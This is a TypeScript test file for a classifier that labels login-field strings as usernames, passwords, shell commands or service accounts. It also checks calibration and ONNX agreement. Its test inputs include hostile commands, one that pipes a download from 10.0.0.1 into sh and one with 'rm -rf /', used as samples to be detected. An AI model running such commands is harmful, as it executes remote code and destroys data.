/** The username classifier: what it tells apart, that its ONNX agrees, and that it is no surer than it is right. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { InferenceSession, Tensor } from 'onnxruntime-node';
import { describe, expect, it } from 'vitest';
import { type Random, seededRandom } from '../models/random.ts';
import { buildClassifier } from '../models/username/build.ts';
import { CLASSES } from '../models/username/classes.ts';
import { classifyUsername } from '../models/username/classify.ts';
import { usernameFeatures, WIDTH } from '../models/username/features.ts';
import { command } from '../models/username/material/commands.ts';
import { nickname } from '../models/username/material/names.ts';
import { password } from '../models/username/material/passwords.ts';
import { serviceAccount } from '../models/username/material/services.ts';

const generated = fileURLToPath(new URL('../models/username/generated/', import.meta.url));

const MATERIAL: Record<(typeof CLASSES)[number], (random: Random) => string> = {
  username: nickname,
  password,
  command,
  service: serviceAccount,
};

describe('classifyUsername', () => {
  it.each([
    ['ls -la /tmp', 'command'],
    ['curl http://10.0.0.1/x.sh | sh', 'command'],
    ['j.smith', 'username'],
    ['www-data', 'service'],
    ['svc_backup', 'service'],
    ['P@ssw0rd!2024', 'password'],
  ])('%s is a %s', (text, type) => {
    expect(classifyUsername(text).predicted_type).toBe(type);
  });

  it('takes any string: probabilities are finite and sum to 1', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 2000 }), (text) => {
        const { probabilities, confidence } = classifyUsername(text);
        const sum = Object.values(probabilities).reduce((total, value) => total + value, 0);
        expect(sum).toBeCloseTo(1, 9);
        expect(confidence).toBeGreaterThanOrEqual(0.25 - 1e-9);
      }),
    );
  });

  it.each(['', ' ', '\u0000', '\ud800\u0000', '...'])('names no class for %j, which has no letter or digit', (text) => {
    expect(classifyUsername(text).predicted_type).toBe('unknown');
  });

  it.each([
    ['_postgres', 'service'],
    ['dir=$(mktemp)', 'command'],
    ['ksh', 'command'],
    ["awk 'NR==2 {print $1}' hosts", 'command'],
    ['qwertz123', 'password'],
    ['asmith12', 'username'],
  ])('%s is a %s: by a convention, by what is known by heart, by the keys side by side', (text, type) => {
    expect(classifyUsername(text).predicted_type).toBe(type);
  });

  it('is as sure as it is right on names and passwords that were made otherwise than what it was fitted on', () => {
    const random = seededRandom(4711);
    const bins = new Map<number, { sure: number; right: number; all: number }>();
    for (let i = 0; i < 4000; i++) {
      const label = CLASSES[i % CLASSES.length] as (typeof CLASSES)[number];
      const { probabilities, confidence } = classifyUsername(MATERIAL[label](random));
      const bin = bins.get(Math.floor(confidence * 10)) ?? { sure: 0, right: 0, all: 0 };
      bin.sure += confidence;
      bin.right += probabilities[label] === confidence ? 1 : 0;
      bin.all++;
      bins.set(Math.floor(confidence * 10), bin);
    }
    const error = [...bins.values()].reduce((sum, { sure, right }) => sum + Math.abs(sure - right), 0) / 4000;
    expect(error).toBeLessThan(0.1);
  });

  it('reads the first 256 units only', () => {
    const head = 'a'.repeat(256);
    expect(classifyUsername(`${head}; rm -rf / | sh`)).toEqual(classifyUsername(head));
  });
});

it('the ONNX agrees with the classifier to a relative 1e-5', async () => {
  const session = await InferenceSession.create(join(generated, 'ngram.onnx'));
  await fc.assert(
    fc.asyncProperty(fc.string({ maxLength: 40 }), async (text) => {
      const row = new Float32Array(WIDTH);
      for (const [index, value] of usernameFeatures(text)) row[index] = value;
      const { probabilities } = await session.run({ features: new Tensor('float32', row, [1, WIDTH]) });
      const expected = classifyUsername(text).probabilities;
      for (const [k, name] of CLASSES.entries()) {
        const actual = Number(probabilities?.data[k]);
        expect(Math.abs(actual - expected[name])).toBeLessThanOrEqual(1e-5 * Math.max(1e-3, expected[name]) + 1e-7);
      }
    }),
    { numRuns: 50 },
  );
});

it('building it again gives the committed bytes', () => {
  for (const [name, contents] of buildClassifier()) {
    expect(Buffer.from(contents).equals(readFileSync(join(generated, name))), name).toBe(true);
  }
});
